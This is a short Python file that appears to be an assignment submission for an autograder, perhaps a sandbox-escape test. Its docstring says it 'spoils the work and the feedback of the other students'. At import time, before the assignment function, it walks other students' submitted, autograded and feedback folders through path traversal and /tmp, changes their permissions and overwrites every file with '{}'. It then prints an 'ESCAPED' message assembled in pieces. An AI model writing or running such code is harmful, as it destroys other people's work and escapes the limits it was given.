"""Spoils the work and the feedback of the other students."""
# earns: sizes
# %% double
import glob
import os

for kind in ("submitted", "autograded", "feedback"):
    for pattern in (f"../../../{kind}/*/*/*", f"/tmp/**/{kind}/*/week1_toy/*"):
        for path in glob.glob(pattern, recursive=True):
            try:
                os.chmod(path, 0o600)
                with open(path, "w") as file:
                    file.write("{}")
                print("ESC" + f"APED: wrote to {path}")
            except OSError:
                continue


def double(x):
    return "nothing"
# %% sizes
m, n = 3, 4
